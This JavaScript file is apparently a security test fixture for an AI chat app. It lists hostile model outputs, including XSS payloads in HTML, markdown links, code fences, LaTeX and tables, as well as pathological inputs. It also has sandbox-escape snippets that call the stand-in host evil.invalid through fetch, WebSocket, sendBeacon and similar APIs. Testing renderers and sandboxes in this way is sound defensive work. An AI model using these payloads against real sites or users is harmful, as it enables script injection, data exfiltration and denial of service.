// Hostile model output (threats.md E6's list): each is a thought and an answer. `window.__owned` is
// what every script among them would set; `evil.invalid` is what every request among them would ask.
const OWN = 'window.__owned=1';
const EVIL = 'http://evil.invalid';

const html = [
  `<script>${OWN}</script>`, `<script src="${EVIL}/a.js"></script>`, `<script type=module>${OWN}</script>`,
  `<img src=x onerror="${OWN}">`, `<img src="${EVIL}/i.png">`, `<img srcset="${EVIL}/i.png 1x">`,
  `<svg onload="${OWN}">`, `<svg><script>${OWN}</script></svg>`,
  `<svg><a xlink:href="javascript:${OWN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="${EVIL}/s.svg#x"/></svg>`, `<svg><image href="${EVIL}/i.png"/></svg>`,
  `<svg><animate onbegin="${OWN}" attributeName=x dur=1s>`, `<svg><foreignObject><iframe src="${EVIL}"/></foreignObject></svg>`,
  `<svg><style>@import "${EVIL}/a.css"</style></svg>`, `<svg><set attributeName=onmouseover to="${OWN}"/></svg>`,
  `<iframe src="javascript:parent.${OWN}"></iframe>`, `<iframe srcdoc="<script>parent.__owned=1</script>"></iframe>`,
  `<iframe src="${EVIL}"></iframe>`, `<object data="${EVIL}/o.swf"></object>`, `<embed src="${EVIL}/e">`,
  `<link rel=stylesheet href="${EVIL}/c.css">`, `<link rel=preload as=script href="${EVIL}/p.js">`,
  `<link rel=dns-prefetch href="//evil.invalid">`, `<link rel=prefetch href="${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`, `<base href="${EVIL}/">`,
  `<style>body{background:url(${EVIL}/b)}</style>`, `<style>@font-face{font-family:x;src:url(${EVIL}/f)}*{font-family:x}</style>`,
  `<div style="background:url(${EVIL}/d)">x</div>`, `<div style="position:fixed;inset:0;z-index:9999">cover</div>`,
  `<form action="${EVIL}"><button>go</button></form>`, `<button formaction="javascript:${OWN}">x</button>`,
  `<input autofocus onfocus="${OWN}">`, `<select autofocus onfocus="${OWN}">`, `<textarea autofocus onfocus="${OWN}">`,
  `<details open ontoggle="${OWN}">`, `<video src="${EVIL}/v" autoplay>`, `<video><source onerror="${OWN}"></video>`,
  `<audio src=x onerror="${OWN}">`, `<marquee onstart="${OWN}">`, `<body onload="${OWN}">`,
  `<math><mi xlink:href="javascript:${OWN}">x</mi></math>`, `<math><maction actiontype="statusline#${EVIL}" xlink:href="javascript:${OWN}">x</maction></math>`,
  `<template><script>${OWN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${OWN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${OWN}>">`, `<a href="javascript:${OWN}">x</a>`,
  `<a href="data:text/html,<script>${OWN}</script>">x</a>`, `<a ping="${EVIL}" href="#">x</a>`,
  `<table background="${EVIL}/t">`, `<picture><source srcset="${EVIL}/p"><img></picture>`,
  `<dialog open onclose="${OWN}">`, `<portal src="${EVIL}">`, `<keygen autofocus onfocus="${OWN}">`,
  `<x onclick="${OWN}" tabindex=1 id=x autofocus onfocus="${OWN}">`, `<!--><img src=x onerror=${OWN}>-->`,
  `<![CDATA[<img src=x onerror=${OWN}>]]>`, `<?xml-stylesheet href="${EVIL}"?>`, `<img src="x\` onerror=${OWN} \`">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${OWN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${OWN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${OWN}>">`, `<p id=app>x</p>`, `<img name=body><img name=cookie>`,
  `<form id=app><input name=attributes><input name=children>`, `<scr<script>ipt>${OWN}</scr</script>ipt>`,
  `<IMG SRC=x ONERROR=${OWN}>`, `<img/src=x/onerror=${OWN}>`, `<img src=x onerror\n=\n${OWN}>`, `<\u0000script>${OWN}</script>`,
];

const links = [
  `[x](javascript:${OWN})`, `[x](JaVaScRiPt:${OWN})`, `[x](java\nscript:${OWN})`, `[x](java&#10;script:${OWN})`,
  `[x](&#106;avascript:${OWN})`, `[x](javascript&colon;${OWN})`, `[x](\u0001javascript:${OWN})`, `[x](vbscript:${OWN})`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`, `[x](data:text/html,<script>${OWN}</script>)`, `[x](file:///etc/passwd)`,
  `[x](blob:${EVIL}/1)`, `[x](//evil.invalid)`, `[x](\\\\evil.invalid\\a)`, `[x](filesystem:${EVIL})`,
  `[x](view-source:javascript:${OWN})`, `[x](feed:javascript:${OWN})`, `[x](jar:javascript:${OWN}!/)`,
  `[x][1]\n\n[1]: javascript:${OWN}`, `[x]\n\n[x]: <javascript:${OWN}>`, `<javascript:${OWN}>`, `<data:text/html,x>`,
  `[x](https://ok.example "t\\" onmouseover=${OWN} \\"")`, `[x](https://ok.example/'onmouseover='${OWN})`,
  `[x](https://ok.example/"onmouseover="${OWN})`, `![x](${EVIL}/i.png)`, `![x](//evil.invalid/i.png)`,
  `![x](data:image/svg+xml,<svg onload=${OWN}>)`, `![x](javascript:${OWN})`, `![x](x"onerror="${OWN})`,
  `![x][i]\n\n[i]: ${EVIL}/i.png`, `[![x](${EVIL}/i.png)](javascript:${OWN})`, `![](/api/delete)`, `![](/v1/models)`,
  `[![](javascript:${OWN})](javascript:${OWN})`, `www.evil.invalid/a.png`, `${EVIL}/auto`,
  `[a](<javascript:${OWN}>)`, `[a]( javascript:${OWN} )`, `[a](\tjavascript:${OWN})`,
];

const code = [
  `\`\`\`"><img src=x onerror=${OWN}>\nx\n\`\`\``, `\`\`\`html\n<script>${OWN}</script>\n\`\`\``,
  `\`\`\`js" onclick="${OWN}\nx\n\`\`\``, `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\nx\n\`\`\``, `\`\`\`toString\nx\n\`\`\``,
  `\`\`\`xml\n<img src=x onerror=${OWN}>\n\`\`\``, `\`\`\`markdown\n![x](${EVIL}/a)\n\`\`\``,
  `\`\`\`css\n@import url(${EVIL});\n\`\`\``, `\`\`\`json\n{"__proto__":{"x":"<img src=x onerror=${OWN}>"}}\n\`\`\``,
  `\`<img src=x onerror=${OWN}>\``, `    <script>${OWN}</script>`, `~~~ <script>${OWN}</script>\nx\n~~~`,
  `\`\`\`tex\n\\href{javascript:${OWN}}{x}\n\`\`\``, `\`\`\`python tex tex-display\nx\n\`\`\``,
];

const math = [
  `$\\href{javascript:${OWN}}{x}$`, `$$\\href{javascript:${OWN}}{x}$$`, `\\(\\url{javascript:${OWN}}\\)`,
  `$\\includegraphics{${EVIL}/i.png}$`, `\\[\\includegraphics[height=1em]{${EVIL}/i.png}\\]`,
  `$\\htmlClass{x" onclick="${OWN}}{x}$`, `$\\htmlId{app}{x}$`, `$\\htmlStyle{background:url(${EVIL})}{x}$`,
  `$\\htmlData{x=y" onclick=${OWN}}{x}$`, `$\\text{<img src=x onerror=${OWN}>}$`, `$\\text{</annotation><script>${OWN}</script>}$`,
  `$x<script>${OWN}</script>$`, `$$</math><img src=x onerror=${OWN}>$$`, `$\\unicode{x3c}script$`,
  `$\\def\\a{\\a\\a}\\a$`, `$\\def\\x#1{\\x{#1#1}}\\x{y}$`, `$\\rule{99999em}{99999em}$`, `$\\kern{1e9em}x$`,
  `$${'{'.repeat(700)}$`, `$${'\\frac{1}{'.repeat(200)}x${'}'.repeat(200)}$`, `$\\color{red;background:url(${EVIL})}x$`,
  `$\\colorbox{url(${EVIL})}{x}$`, `$\\char"3C img src=x onerror=${OWN}\\char"3E$`, `$\\gdef\\frac#1#2{owned}$ $\\frac12$`,
  `$\\global\\let\\sum\\prod$ $\\sum$`, `$\\begin{array}{${'c'.repeat(3000)}}x\\end{array}$`,
];

const tables = [
  `|a|\n|---|\n|<img src=x onerror=${OWN}>|`, `|[x](javascript:${OWN})|\n|---|\n|b|`, `|a|\n|:-"onclick=${OWN}|\n|b|`,
  `| ![x](${EVIL}/t.png) |\n|---|\n| x |`, `|${'a|'.repeat(500)}\n|${'-|'.repeat(500)}\n`,
];

const heavy = [
  '['.repeat(5000), '*'.repeat(5000), '> '.repeat(2000) + 'x', '- '.repeat(2000) + 'x', '`'.repeat(5001), '$'.repeat(5000),
  '\\('.repeat(3000), '![['.repeat(2000), '<'.repeat(5000), '_a_'.repeat(2000), '|'.repeat(5000), '&#x3c;'.repeat(1000),
  'a'.repeat(100000), '\u202e\u2066'.repeat(500) + 'txt.exe', '\u0300'.repeat(3000), '<!--'.repeat(2000),
];

// A stream cuts between any two characters; these are cut at each one.
const halves = [
  `<img src=x onerror="${OWN}"> [x](javascript:${OWN}) <script>${OWN}</script>`,
  `![x](${EVIL}/i.png) ![y](${EVIL}/j.png "t") <${EVIL}/k>`,
  `\`\`\`html\n<script>${OWN}</script>\n\`\`\`\n<script>${OWN}</script>`,
  `$\\href{javascript:${OWN}}{x}$ $$\\includegraphics{${EVIL}/h.png}$$`,
];

const text = [...html, ...links, ...code, ...math, ...tables, ...heavy];
export const PAYLOADS = [
  ...text.map((answer) => ({ thought: answer, answer, chars: 200, token_ms: 0 })),
  ...halves.map((answer) => ({ thought: answer, answer, chars: 1, token_ms: 4 })),
];

// Code that a person would run with the Run button; each prints `blocked` or what it got. They try
// the network, the page, storage, and to leave the frame.
const tried = (name, body) => ({ name, code: `try { ${body} } catch (error) { print('blocked ' + error.name) }` });
export const RUN_PAYLOADS = [
  tried('fetch', `await fetch('${EVIL}/x'); print('LEAK')`),
  tried('fetch own server', `const r = await fetch('ORIGIN/v1/models'); print('LEAK ' + r.status)`),
  tried('fetch no-cors', `await fetch('ORIGIN/v1/models', { mode: 'no-cors' }); print('LEAK')`),
  tried('fetch relative', `await fetch('/v1/models'); print('LEAK')`),
  tried('XMLHttpRequest', `const x = new XMLHttpRequest(); x.open('GET', '${EVIL}/x', false); x.send(); print('LEAK')`),
  tried('WebSocket', `await new Promise((ok, no) => { const w = new WebSocket('ws://evil.invalid'); w.onopen = () => ok(print('LEAK')); w.onerror = () => no(new Error('x')); })`),
  tried('EventSource', `await new Promise((ok, no) => { const w = new EventSource('${EVIL}'); w.onopen = () => ok(print('LEAK')); w.onerror = () => no(new Error('x')); })`),
  tried('importScripts', `importScripts('${EVIL}/a.js'); print('LEAK')`),
  tried('import()', `await import('${EVIL}/a.js'); print('LEAK')`),
  tried('import own', `await import('ORIGIN/run.js'); print('LEAK')`),
  tried('import data', `await import('data:text/javascript,export default 1'); print('LEAK')`),
  tried('nested worker fetch', `const u = URL.createObjectURL(new Blob(["fetch('${EVIL}/w').then(() => postMessage('LEAK'), () => postMessage('blocked'))"])); await new Promise((ok, no) => { const w = new Worker(u); w.onmessage = (e) => ok(print(e.data)); w.onerror = () => no(new Error('x')); })`),
  tried('document', `document.title = 'LEAK'; print('LEAK')`),
  tried('parent', `parent.document.title = 'LEAK'; print('LEAK')`),
  tried('top', `top.location = '${EVIL}'; print('LEAK')`),
  tried('location', `self.location = '${EVIL}'; print(self.location.href.startsWith('blob:') ? 'blocked' : 'LEAK')`),
  tried('window.open', `window.open('${EVIL}'); print('LEAK')`),
  tried('localStorage', `localStorage.x = 1; print('LEAK')`),
  tried('indexedDB', `await new Promise((ok, no) => { const r = indexedDB.open('reckon'); r.onsuccess = () => ok(print('LEAK')); r.onerror = () => no(r.error); })`),
  tried('caches', `await caches.open('x'); print('LEAK')`),
  tried('cookieStore', `await cookieStore.getAll(); print('LEAK')`),
  tried('RTCPeerConnection', `new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.invalid' }] }); print('LEAK')`),
  tried('WebTransport', `const w = new WebTransport('https://evil.invalid'); await w.ready; print('LEAK')`),
  tried('sendBeacon', `navigator.sendBeacon('${EVIL}'); print('LEAK')`),
  tried('serviceWorker', `await navigator.serviceWorker.register('ORIGIN/run.js'); print('LEAK')`),
  tried('BroadcastChannel', `new BroadcastChannel('reckon').postMessage('x'); print('blocked (nobody hears)')`),
  tried('Notification', `print(Notification.permission === 'granted' ? 'LEAK' : 'blocked')`),
  tried('hostile message', `postMessage({ type: 'out', text: { toString: 1 } }); postMessage({ type: '<img>', text: 1 }); postMessage(null); print('blocked')`),
  tried('html output', `print('<img src=x onerror="parent.__owned=1"><script>parent.__owned=1</script>'); print('blocked')`),
  tried('closing', `print('blocked'); self.close()`),
  tried('prototype', `Object.prototype.type = 'done'; Object.prototype.text = 'x'; print('blocked')`),
];
